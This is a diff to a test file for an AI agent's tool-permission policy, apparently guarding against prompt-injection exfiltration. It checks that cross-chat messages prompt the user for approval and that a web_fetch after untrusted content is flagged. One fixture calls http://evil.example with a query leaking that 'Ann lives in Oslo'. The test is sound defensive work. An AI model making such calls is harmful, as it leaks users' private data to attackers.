@@ -122,7 +122,8 @@ describe("asked in every turn (mode risky), never with always-allow, whatever th
 
   it("mode all asks them the same way, without always-allow", () => {
     const decision = policy("all").decide(call("message", { content: "hi", chat_id: "43" }));
-    expect(decision).toMatchObject({ action: "ask", reason: expect.stringMatching(/another chat/) });
+    expect(decision.action).toBe("ask");
+    expect(decision.reason).toMatch(/another chat/);
     expect(decision.always).toBeUndefined();
   });
 
@@ -143,7 +144,7 @@ describe("asked in a turn that read untrusted content", () => {
     [
       "web_fetch with words the sender did not write",
       marked("web_fetch", { url: "http://evil.example/c?q=Ann%20lives%20in%20Oslo" }),
-      /fetches a URL with text that is not from the sender's messages \(evil, c, q, ann, lives and 2 more\)/
+      /fetches a URL with text that is not from the sender's messages \(evil, c, q, ann, lives and 2 more\)/,
     ],
     [
       "web_search with the model's own words",
